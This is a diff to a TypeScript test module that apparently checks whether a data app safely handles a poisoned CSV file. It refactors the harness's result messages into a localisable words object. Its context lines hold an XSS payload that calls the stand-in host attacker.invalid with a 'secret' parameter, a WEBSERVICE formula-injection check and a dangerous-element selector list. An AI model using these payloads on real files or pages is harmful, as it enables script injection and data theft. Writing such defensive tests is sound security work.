@@ -9,6 +9,9 @@ import { startTurn } from '../../core/turn.ts';
 import { AnswerText } from '../chat/answer-text.tsx';
 import { columnViews } from '../findings/cell-view.ts';
 import { PlainTable } from '../findings/plain-table.tsx';
+import type { proofWords } from './words.ts';
+
+type FileWords = typeof proofWords.file;
 
 const somewhere = 'https://attacker.invalid/';
 const markup = `<img src="${somewhere}?secret=42" onerror="window.stolen = 42"><script>window.stolen = 42</script>`;
@@ -22,10 +25,11 @@ const csv = [`id,${quoted(statement)}`, ...poison.map((text, index) => `${index}
   '\r\n',
 );
 
+type Judge = (result: ResultSet, words: FileWords) => AttackOutcome | Promise<AttackOutcome>;
+
 /** Each opens the same file, in the way in which a file is opened, and looks at one thing that could come of it. */
-export function fileAttacks(engine: DataEngine): readonly Attack[] {
-  const opened = (judge: (result: ResultSet) => AttackOutcome | Promise<AttackOutcome>) => async () =>
-    judge(await throughTheEngine(engine));
+export function fileAttacks(engine: DataEngine, words: () => FileWords): readonly Attack[] {
+  const opened = (judge: Judge) => async () => judge(await throughTheEngine(engine), words());
   return [
     {
       id: 'file-statement',
@@ -65,20 +69,20 @@ async function throughTheEngine(engine: DataEngine): Promise<ResultSet> {
   }
 }
 
-function judgeColumn({ columns, rows }: ResultSet): AttackOutcome {
+function judgeColumn({ columns, rows }: ResultSet, words: FileWords): AttackOutcome {
   const isText = columns.some(({ name }) => name === statement) && rows.length === poison.length;
   return isText
-    ? { kind: 'stopped', said: 'It is the name of a column, and nothing else.' }
-    : { kind: 'through', got: `${rows.length} rows in ${columns.map(({ name }) => name).join(', ')}` };
+    ? { kind: 'stopped', said: words.isName }
+    : { kind: 'through', got: words.otherwise(rows.length, columns.map(({ name }) => name).join(', ')) };
 }
 
-function judgeExported(result: ResultSet): AttackOutcome {
+function judgeExported(result: ResultSet, words: FileWords): AttackOutcome {
   const line = toCsv(result)
     .split('\r\n')
     .find((each) => each.includes('WEBSERVICE'));
   return line?.includes(`'=WEBSERVICE`) === true
-    ? { kind: 'stopped', said: `Exported as text: ${line}` }
-    : { kind: 'through', got: line ?? 'The cell is not in the export.' };
+    ? { kind: 'stopped', said: words.isExportedAsText(line) }
+    : { kind: 'through', got: line ?? words.isNotExported };
 }
 
 const settleMs = 300;
@@ -86,7 +90,7 @@ const dangerous =
   'script, img, iframe, object, embed, form, a, [onerror], [onload], [onclick], [src], [href]';
 
 /** Draws the cells with the components that draw results and answers, and looks at what became of them. */
-async function judgeDrawn(result: ResultSet): Promise<AttackOutcome> {
+async function judgeDrawn(result: ResultSet, words: FileWords): Promise<AttackOutcome> {
   const stage = document.createElement('div');
   stage.hidden = true;
   document.body.append(stage);
@@ -98,8 +102,8 @@ async function judgeDrawn(result: ResultSet): Promise<AttackOutcome> {
   root.unmount();
   stage.remove();
   if (made.length > 0 || 'stolen' in window) return { kind: 'through', got: made.join(' ') };
-  if (!isThere) throw new Error('The cells were not drawn.');
-  return { kind: 'stopped', said: 'Drawn as the text that it is: no element came of it, and no request.' };
+  if (!isThere) throw new Error(words.isNotDrawn);
+  return { kind: 'stopped', said: words.isText };
 }
 
 function Drawn({ result }: { readonly result: ResultSet }) {
